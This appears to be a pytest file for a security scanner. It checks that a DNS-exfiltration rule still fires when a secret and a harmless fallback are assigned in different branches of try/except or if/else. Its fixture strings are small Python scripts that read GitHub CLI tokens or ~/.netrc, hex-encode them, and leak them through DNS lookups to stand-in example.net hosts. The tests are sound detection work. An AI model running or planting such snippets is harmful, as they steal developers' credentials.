"""In Python a name set in both branches of ``try``/``except`` or ``if``/``else`` may hold either
value afterwards: a fallback in the handler does not wash out the secret the body read."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings

BRANCHES = {
    "fallback in the handler": (
        "import os, socket\n"
        "def fingerprint():\n"
        "    try:\n"
        "        blob = open(os.path.expanduser('~/.config/gh/hosts.yml'), 'rb').read()\n"
        "    except FileNotFoundError:\n"
        "        blob = os.urandom(16)\n"
        "    return blob.hex()[:60]\n"
        "def check():\n"
        "    socket.gethostbyname(fingerprint() + '.v.shipcheck-metrics.example.net')\n"
        "check()\n",
        "hosts.yml",
        9,
    ),
    "a secret only in the if branch": (
        "import os, pathlib, socket\n"
        "def label(ci):\n"
        "    if not ci:\n"
        "        token = (pathlib.Path.home() / '.netrc').read_bytes()\n"
        "    else:\n"
        "        token = os.urandom(8)\n"
        "    return token.hex()[:60]\n"
        "socket.getaddrinfo(label(os.environ.get('CI')) + '.q.198-51-100-9.example.net', 53)\n",
        ".netrc",
        8,
    ),
}


@pytest.mark.parametrize("case", sorted(BRANCHES))
def test_a_name_set_in_either_branch_keeps_what_each_read(tmp_path: Path, case: str) -> None:
    source, store, line = BRANCHES[case]
    findings = scan_findings(tmp_path, {"scripts/report.py": source})
    chained = [f for f in findings if f.rule == "DNS_EXFILTRATION" and f.line == line and f.severity.value == "error"]
    assert chained and store in chained[0].message  # the read is the chain's first link


def test_branches_of_plain_settings_sent_are_no_error(tmp_path: Path) -> None:
    source = (
        "import json, urllib.request\n"
        "try:\n"
        "    settings = open('config/app.json').read()\n"
        "except OSError:\n"
        "    settings = '{}'\n"
        "urllib.request.urlopen('https://status.example.org/ping', data=settings.encode())\n"
    )
    assert not scan_errors(tmp_path, {"scripts/report.py": source})
